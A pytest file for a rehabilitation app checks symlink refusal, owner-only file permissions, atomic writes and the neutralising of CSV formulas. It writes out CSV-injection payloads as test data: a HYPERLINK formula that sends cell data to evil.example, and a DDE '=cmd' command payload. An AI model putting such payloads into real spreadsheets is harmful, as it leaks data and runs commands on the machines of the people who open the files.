"""Safe output: --out never follows symlinks, files and folders are owner-only from creation,
CSV cells cannot run as formulas, patient ids are whole-string matches, and a crash whose log
cannot be written still shows the real error."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from rehab.cli import main
from rehab.errors import StoreError
from rehab.report.export import export_trials, neutralise, write_csv
from rehab.safeio import UnsafeOutput, atomic_open, atomic_path, private_dirs
from rehab.store import Store
from rehab.testing.store_data import fake_info, hand_frames

MI = Path(__file__).resolve().parent.parent / "protocols" / "motor_imagery.yaml"


def _mode(path: Path) -> str:
    return oct(stat.S_IMODE(path.lstat().st_mode))


@pytest.fixture
def data(tmp_path) -> Path:
    d = tmp_path / "data"
    store = Store(d)
    store.add_patient("S1", "left")
    store.close()
    return d


@pytest.mark.parametrize("command", ["export", "review"])
def test_out_refuses_a_planted_symlink_and_leaves_its_target_alone(tmp_path, data, command):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious file\n")
    victim.chmod(0o644)
    link = tmp_path / f"out.{'csv' if command == 'export' else 'html'}"
    link.symlink_to(victim)
    result = CliRunner().invoke(main, [command, "--patient", "S1", "--out", str(link),
                                       "--data", str(data)])
    assert result.exit_code == 1
    assert "symbolic link" in result.output and "Traceback" not in result.output
    assert victim.read_text() == "precious file\n" and _mode(victim) == "0o644"
    assert link.is_symlink()


def test_a_dangling_link_creates_nothing(tmp_path, data):
    link = tmp_path / "out.csv"
    link.symlink_to(tmp_path / "nowhere.csv")
    result = CliRunner().invoke(main, ["export", "--patient", "S1", "--out", str(link),
                                       "--data", str(data)])
    assert result.exit_code == 1
    assert not (tmp_path / "nowhere.csv").exists()


def test_atomic_open_is_owner_only_from_creation_and_leaves_no_temp(tmp_path):
    target = tmp_path / "out.csv"
    with atomic_open(target) as fh:
        temps = [p for p in tmp_path.iterdir() if p != target]
        assert len(temps) == 1 and _mode(temps[0]) == "0o600"  # before any chmod could run
        assert not target.exists()  # nothing half-written under the real name
        fh.write("a,b\n")
    assert target.read_text() == "a,b\n" and _mode(target) == "0o600"
    assert sorted(tmp_path.iterdir()) == [target]


def test_atomic_open_keeps_the_old_file_when_writing_fails(tmp_path):
    target = tmp_path / "out.csv"
    target.write_text("old\n")
    with pytest.raises(RuntimeError), atomic_open(target) as fh:
        fh.write("new")
        raise RuntimeError("disk went away")
    assert target.read_text() == "old\n" and sorted(tmp_path.iterdir()) == [target]


def test_atomic_path_keeps_the_suffix_for_format_by_name_writers(tmp_path):
    with atomic_path(tmp_path / "shot.png", make_dirs=True) as temp:
        assert temp.suffix == ".png" and temp.parent == tmp_path
        temp.write_bytes(b"png")
    assert (tmp_path / "shot.png").read_bytes() == b"png"


def test_folders_are_0700_from_creation(tmp_path):
    old = os.umask(0o022)
    try:
        made = private_dirs(tmp_path / "a" / "b")
    finally:
        os.umask(old)
    assert _mode(made) == "0o700" and _mode(tmp_path / "a") == "0o700"


def test_screenshot_folder_and_file_are_private(tmp_path):
    from rehab.devices.display import PygameDisplay

    display = PygameDisplay(fullscreen=False, size=(320, 200))
    try:
        old = os.umask(0o022)
        try:
            display.screenshot(tmp_path / "shots" / "a.png")
        finally:
            os.umask(old)
        (tmp_path / "evil.png").symlink_to(tmp_path / "victim.png")
        with pytest.raises(UnsafeOutput):
            display.screenshot(tmp_path / "evil.png")
    finally:
        display.close()
    assert _mode(tmp_path / "shots") == "0o700" and _mode(tmp_path / "shots" / "a.png") == "0o600"
    assert not (tmp_path / "victim.png").exists()


def test_csv_cells_cannot_run_as_formulas():
    df = pd.DataFrame({
        "protocol_name": ['=HYPERLINK("http://evil.example/?d="&A2,"Open")', "+1+1", "-2+3",
                          "@SUM(A1)", "\t=1", "\r=1", "plain", "-3.5"],
        "score": [-1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0, 8.0],
    })
    out = neutralise(df)
    assert out["protocol_name"].tolist() == [
        '\'=HYPERLINK("http://evil.example/?d="&A2,"Open")', "'+1+1", "'-2+3", "'@SUM(A1)",
        "'\t=1", "'\r=1", "plain", "-3.5"]
    assert out["score"].tolist() == [-1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0, 8.0]
    assert df["protocol_name"][0].startswith("=")  # the caller's frame is not changed


def test_exported_trial_csv_has_no_live_formula(tmp_path):
    store = Store(tmp_path / "data")
    store.add_patient("P1", "left")
    w = store.writer()
    info = fake_info("P1")
    object.__setattr__(info, "protocol_name", "=cmd|' /C calc'!A0")
    w.begin(info)
    w.trial(1, "open_close", "left", {"task": "open_close", "hand": "left", "frames": 10,
                                       "repetitions": 3}, hand_frames(10, "left"))
    w.end("completed")
    df = export_trials(store, "P1")
    write_csv(df, tmp_path / "t.csv")
    text = (tmp_path / "t.csv").read_text()
    assert "'=cmd|" in text and ",=cmd" not in text and '"=cmd' not in text
    back = pd.read_csv(tmp_path / "t.csv")
    assert back["repetitions"].tolist() == [3]
    assert back["protocol_name"].tolist() == ["'=cmd|' /C calc'!A0"]


def test_patient_id_with_a_trailing_newline_is_refused(tmp_path):
    store = Store(tmp_path / "data")
    store.add_patient("P001", "left")
    with pytest.raises(StoreError):
        store.add_patient("P001\n", "right")
    assert [p.id for p in store.list_patients()] == ["P001"]


def test_real_error_is_shown_when_the_crash_log_cannot_be_written(monkeypatch, tmp_path):
    data = tmp_path / "data"
    Store(data).add_patient("P1", "left")
    (data / "logs").write_text("a file where the logs folder would go")
    import rehab.engine.session as session_mod

    def boom(*a, **k):
        raise ZeroDivisionError("simulated bug")

    monkeypatch.setattr(session_mod, "run_rest", boom)
    result = CliRunner().invoke(main, ["run", str(MI), "--patient", "P1", "--autopilot", "--fast",
                                       "--window", "--data", str(data)])
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert "ZeroDivisionError: simulated bug" in result.output
    assert "no crash log: cannot write to" in result.output
